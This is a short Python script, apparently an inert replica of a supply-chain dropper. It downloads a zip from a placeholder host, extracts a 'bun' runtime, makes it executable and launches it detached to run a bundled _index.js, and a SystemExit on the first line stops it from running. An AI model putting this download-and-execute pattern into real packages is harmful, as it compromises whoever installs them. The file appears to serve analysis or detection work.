raise SystemExit("inert replica")
import os
import subprocess
import tempfile
import urllib.request
import zipfile

folder = tempfile.mkdtemp()
urllib.request.urlretrieve("https://runner.replica.invalid/linux-x64.zip", folder + "/r.zip")
zipfile.ZipFile(folder + "/r.zip").extractall(folder)
os.chmod(folder + "/bun", 0o755)
subprocess.Popen([folder + "/bun", os.path.join(os.path.dirname(__file__), "_index.js")], start_new_session=True)
